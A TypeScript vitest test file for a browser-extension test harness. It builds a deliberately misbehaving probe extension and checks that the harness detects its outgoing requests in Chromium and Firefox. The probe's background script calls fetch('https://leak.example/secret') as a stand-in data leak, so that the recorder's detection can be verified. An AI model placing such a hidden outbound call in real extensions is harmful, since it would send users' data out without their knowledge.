import { mkdtemp, rm, writeFile } from 'node:fs/promises';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { afterAll, beforeAll, expect, test } from 'vitest';
import { launchBrowser } from '../harness/launch-browser';
import { openExtensionPage, openPage } from '../harness/open-page';
import { requestsLeaving, servedRequests } from '../harness/recorded-request';
import { evaluateIn, waitFor } from '../harness/wait-for';
import { type PracticeServer, startPracticeServer } from '../portals/server';

// The harness on a small extension that misbehaves, so that the real one's tests can be believed: they could fail.

const background = "fetch('https://leak.example/secret').catch(() => null);";
const manifest = {
  manifest_version: 3,
  name: 'Harness probe',
  version: '1.0',
  background: { service_worker: 'background.js', scripts: ['background.js'] },
  options_ui: { page: 'options.html' },
  content_scripts: [{ matches: ['https://beian.mps.gov.cn/*'], js: ['content.js'] }],
  browser_specific_settings: { gecko: { id: 'probe@beian-pilot.example', strict_min_version: '128.0' } },
};
const files: Record<string, string> = {
  'manifest.json': JSON.stringify(manifest),
  'background.js': background,
  'content.js': "document.documentElement.dataset.probe = 'here';",
  'options.html': '<!doctype html><meta charset="utf-8"><title>Probe</title><h1>选项</h1>',
};

let folder: string;
let server: PracticeServer;

beforeAll(async () => {
  folder = await mkdtemp(join(tmpdir(), 'beian-pilot-probe-'));
  for (const [name, text] of Object.entries(files)) await writeFile(join(folder, name), text);
  server = await startPracticeServer({
    extra: { 'other.example': (path) => (path === '/' ? '<h1>other</h1>' : null) },
  });
});

afterAll(async () => {
  await server.close();
  await rm(folder, { recursive: true });
});

test.each(['chromium', 'firefox'] as const)(
  '%s runs an extension at the real host and tells what it asks',
  async (browser) => {
    const launched = await launchBrowser({
      browser,
      port: server.port,
      extension: folder,
      extraHosts: ['other.example'],
    });
    try {
      const portal = await openPage(launched, 'https://beian.mps.gov.cn/web/dashboard/home');
      const probe = () => evaluateIn(portal, () => document.documentElement.dataset.probe, []);
      expect(await waitFor(probe, { what: 'the content script' })).toBe('here');
      const options = await openExtensionPage(launched, 'options.html');
      expect(await evaluateIn(options, () => document.querySelector('h1')?.textContent, [])).toBe('选项');
      const other = await openPage(launched, 'https://other.example/');
      expect(await evaluateIn(other, () => document.body.textContent, [])).toBe('other');
    } finally {
      await launched.close();
    }
    const asked = [...launched.requests, ...servedRequests(server)];
    const leaving = requestsLeaving(asked, ['other.example']).map((request) => request.url);
    expect(new Set(leaving)).toEqual(new Set(['https://leak.example/secret']));
  },
);

test('every wait has an end and says what it waited for', async () => {
  await expect(waitFor(() => false, { timeout: 60, what: 'the moon' })).rejects.toThrow('waited 60 ms for the moon');
  await expect(waitFor(() => new Promise(() => {}), { timeout: 60, what: 'an answer' })).rejects.toThrow('an answer');
});
